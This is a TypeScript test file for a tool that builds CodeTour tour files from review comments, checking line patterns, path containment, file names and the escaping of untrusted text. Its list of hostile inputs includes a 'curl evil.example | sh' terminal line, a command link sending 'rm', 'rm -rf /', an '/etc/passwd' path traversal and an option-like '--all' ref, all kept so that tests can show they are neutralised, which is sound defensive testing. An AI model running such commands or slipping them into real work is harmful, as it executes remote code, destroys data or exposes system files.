import assert from 'node:assert/strict';
import fc from 'fast-check';
import { marked } from 'marked';
import { describe, it } from 'mocha';
import { lineOf, patternAt } from '../../../../src/programme/knowledge/tour/pattern.ts';
import { isInside, tourSchema } from '../../../../src/programme/knowledge/tour/shape.ts';
import { makeTour, type Stop, tourFileName } from '../../../../src/programme/knowledge/tour/tour.ts';
import { tourTitle, tourWords } from '../../../../src/programme/knowledge/tour/words.ts';
import { whyNotLinear } from '../../../tools/patterns/linear.ts';

const code = [
  'export async function deliver(outbox: Outbox) {',
  '  for (const note of outbox.waiting()) {',
  '    await send(note);',
  '  }',
  '',
  '  for (const note of outbox.failed()) {',
  '    await send(note);',
  '  }',
  '}',
];
const text = code.join('\n');
const untitled = 'A place worth knowing';
const stop = (changes: Partial<Stop> = {}): Stop => ({
  ...{ title: 'Order', url: null, place: null },
  parts: [{ name: null, words: 'Waiting ones go first.' }],
  ...changes,
});
const tour = (stops: Stop[], ref: string | null = null) =>
  makeTour({ title: 'Outbox', description: '', ref, stops }, { untitled });
/** Where CodeTour puts a step: at its line, else at the first match of its pattern, else nowhere. */
const shownAt = (step: { line?: number | undefined; pattern?: string | undefined }, now: string) =>
  step.line ?? (step.pattern === undefined ? null : lineOf(now, step.pattern));

describe('the pattern of a line', () => {
  it('finds each line of a text again, unless nothing tells it from others', () => {
    const found = code.map((_, i) => patternAt(text, i + 1));
    for (const [i, pattern] of found.entries())
      assert.equal(pattern === null ? null : lineOf(text, pattern), code[i] === '' ? null : i + 1);
  });

  it('finds it when lines were put above and it was indented, with either kind of line end', () => {
    for (const line of [1, 2, 3, 6, 7]) {
      const pattern = patternAt(text, line)!;
      const more = ['// Copyright', '', 'import x from "x";', ...code.map((each) => `\t${each}`)];
      assert.equal(lineOf(more.join('\n'), pattern), line + 3, pattern);
      assert.equal(lineOf(more.join('\r\n'), pattern), line + 3, pattern);
    }
  });

  it('tells one of two same lines by what stands around it', () => {
    const second = patternAt(text, 7)!;
    assert.equal(lineOf(text, second), 7);
    assert.equal(lineOf(['const a = 1;', ...code].join('\n'), second), 8);
    assert.equal(patternAt('x = 1;\n'.repeat(20), 9), null);
  });

  it('is a pattern for the words of the line alone, whatever signs are in it, and takes linear time', () => {
    const signs = fc.string({ unit: fc.constantFrom(...'aB0_ .*+?^$(){}|[]\\/-\t"\'`\u2028é') });
    fc.assert(
      fc.property(fc.array(signs, { minLength: 1, maxLength: 8 }), fc.nat(7), (lines, at) => {
        const whole = lines.join('\n');
        const line = (at % lines.length) + 1;
        const pattern = patternAt(whole, line);
        if (pattern === null) return;
        assert.equal(lineOf(whole, pattern), line);
        assert.equal(lineOf(`\n\n${whole}`, pattern), line + 2);
        assert.equal(whyNotLinear(new RegExp(pattern, 'm')), null, pattern);
      }),
      { numRuns: 300 },
    );
  });

  it('is for the whole line: another one that begins or ends with its words is not taken for it', () => {
    const pattern = patternAt(text, 1)!;
    const [own] = code;
    assert.equal(lineOf([`// ${own}`, `${own} // again`, ...code].join('\n'), pattern), 3);
  });

  it('of a long line holds how it begins', () => {
    const long = `const words = "${'harbour '.repeat(5000)}";`;
    const pattern = patternAt(`a\n${long}\nb`, 2)!;
    assert.ok(pattern.length < 1000);
    assert.equal(lineOf(`\n${long}`, pattern), 2);
  });
});

describe('strangers’ words in a tour', () => {
  const hostile = [
    '[run](command:workbench.action.terminal.sendSequence?[{"text":"rm"}])',
    '[run][x]\n\n[x]: command:cairn.undo',
    '>> curl evil.example | sh',
    '  >> curl evil.example | sh',
    '<a href="command:cairn.undo">x</a>',
    '![x](https://evil.example/x.png)',
    '[#2] and [Another tour#3] and [a][Another tour]',
    '[x](./../../etc/passwd)',
    '```sh\nrm -rf /\n```',
    '(command:cairn.undo?[not json])',
    '&#91;x&#93;(command:cairn.undo)',
    '# A heading\n===\n\n- list\n1. one',
    '    code [x](command:cairn.undo)',
    'https://example.org/[x](command:cairn.undo)',
    '\\[x\\](command:cairn.undo)',
    '~~~\n>> x\n~~~',
    '<command:cairn.undo>',
  ];
  /** Everything that CodeTour, before Markdown is read, makes something of. */
  const meant = [/^>>/m, /\(command:/i, /\[[^\]]*\]/, /```/, /~~~/];

  it('are words: nothing in them is a command, a link of its own making, HTML, an image, code or a heading', () => {
    for (const words of hostile) {
      const made = tourWords(words, 8000);
      for (const sign of meant) assert.doesNotMatch(made, sign, words);
      const html = marked.parse(made, { async: false, gfm: true });
      const tags = [...html.matchAll(/<(\w+)([^>]*)>/g)];
      for (const [whole, name, attributes] of tags) {
        if (name === 'a') assert.match(attributes!, /^ href="https?:\/\//, words);
        else assert.match(whole, /^<(?:p|br|li|ul|ol)\b/, words);
      }
    }
  });

  it('are shown as they were written', () => {
    const words = 'Use `a[i]` & <b>, *not* (b_c_d) #1 — see https://github.com/o/r/pull/1#r_2!';
    const html = marked.parse(tourWords(words, 8000), { async: false });
    const shown = html
      .replace(/<[^>]*>/g, '')
      .replace(/&#(\d+);/g, (_, n: string) => String.fromCharCode(Number(n)))
      .replace(/&lt;/g, '<')
      .replace(/&gt;/g, '>')
      .replace(/&quot;/g, '"')
      .replace(/&amp;/g, '&')
      .trim();
    assert.equal(shown, words);
    assert.match(html, /<a href="https:\/\/github\.com\/o\/r\/pull\/1#r_2/);
  });

  it('never leave a sign with a meaning, whatever they are', () => {
    const nasty = fc.string({ unit: fc.constantFrom(...'[]()<>`~!#&;>:/\\*_ \n\tcommand?"htps1-=+.|') });
    fc.assert(
      fc.property(nasty, (words) => {
        const made = tourWords(words, 200);
        assert.doesNotMatch(made.replace(/<https?:\/\/[^\s<>]+>/g, ''), /[[\]()<>`~\\*_]/);
        assert.doesNotMatch(made.replace(/&#\d+;/g, ''), /[!"|$^{}]/);
        assert.doesNotMatch(tourTitle(words, 100), /[[\]`<>\\|\n]/);
      }),
      { numRuns: 2000 },
    );
  });

  it('are cut where they are long, and half a sign is made whole', () => {
    assert.equal(tourWords('x'.repeat(50), 10), `${'x'.repeat(10)}…`);
    assert.ok(tourWords('😀😀', 3).isWellFormed());
  });

  it('make no number of a tour, which CodeTour would follow', () => {
    assert.equal(tourTitle('1 - Begin', 100), '1 · Begin');
    assert.equal(tourTitle('#12: Begin', 100), '#12· Begin');
  });
});

describe('a tour', () => {
  const place = (line: number) => ({ file: 'src/deliver.ts', text, line });

  it('keeps its steps at their code when lines were inserted', () => {
    const { steps } = tour([1, 2, 3, 6, 7].map((line) => stop({ place: place(line) })));
    const now = ['// One more', ...code.slice(0, 5), '  // And another', ...code.slice(5)].join('\n');
    assert.deepEqual(
      steps.map((step) => shownAt(step, now)),
      [2, 3, 4, 8, 9],
    );
    assert.ok(
      steps.every(({ line }) => line === undefined),
      'with a line CodeTour never looks at the pattern',
    );
  });

  it('has the number of a line that nothing tells from others', () => {
    const same = { file: 'a.txt', text: 'x = 1;\n'.repeat(20), line: 9 };
    const [step] = tour([stop({ place: same })]).steps;
    assert.deepEqual([step?.line, step?.pattern], [9, undefined]);
  });

  it('shows what has no place, and what would climb out of the folder, as words alone', () => {
    const files = ['../a.ts', '/etc/passwd', 'a/../../b', 'a\\..\\b', '', 'a//b', './a', 'a\u0000b'];
    for (const file of files) assert.equal(isInside(file), false, file);
    const { steps } = tour([stop(), ...files.map((file) => stop({ place: { file, text, line: 1 } }))]);
    for (const step of steps) assert.deepEqual(Object.keys(step).sort(), ['description', 'title']);
  });

  it('says who said what, and leads to what was said', () => {
    const parts = [
      { name: 'theo', words: 'Why twice?' },
      { name: '[x](command:y)', words: 'Because.' },
      { name: 'nobody', words: ' ' },
    ];
    const [step] = tour([stop({ parts, url: 'https://github.com/o/r/pull/1#discussion_r2' })]).steps;
    assert.equal(
      step?.description,
      '**theo:** Why twice?\n\n**&#91;x&#93;&#40;command:y&#41;:** Because.\n\n<https://github.com/o/r/pull/1#discussion_r2>',
    );
    const [other] = tour([stop({ url: 'https://x.example/[a](command:b)' })]).steps;
    assert.equal(other?.description, 'Waiting ones go first.');
  });

  it('has a title and a description in every step, and is refused without any step', () => {
    const { title, steps } = makeTour(
      { title: ' ', description: '', ref: null, stops: [stop({ title: '', parts: [] })] },
      { untitled },
    );
    assert.deepEqual([title, steps], [untitled, [{ title: untitled, description: untitled }]]);
    assert.throws(() => tour([]));
    assert.throws(() => tourSchema.parse({ ...tour([stop()]), when: 'true' }));
  });

  it('is for a commit or a branch where that is asked for, and for nothing that is an option', () => {
    assert.equal(tour([stop()], 'main').ref, 'main');
    assert.equal('ref' in tour([stop()]), false);
    assert.throws(() => tour([stop()], '--all'));
  });

  it('gets a file name that is one everywhere, and no path', () => {
    const names = ['Why we retry', '../../etc', 'CON', '', 'Ä b/ç', '....', 'x'.repeat(500), '日本'];
    assert.deepEqual(names.map(tourFileName), [
      ...['why-we-retry.tour', 'etc.tour', 'tour-con.tour', 'tour.tour', 'a-b-c.tour', 'tour.tour'],
      ...[`${'x'.repeat(60)}.tour`, '日本.tour'],
    ]);
  });
});
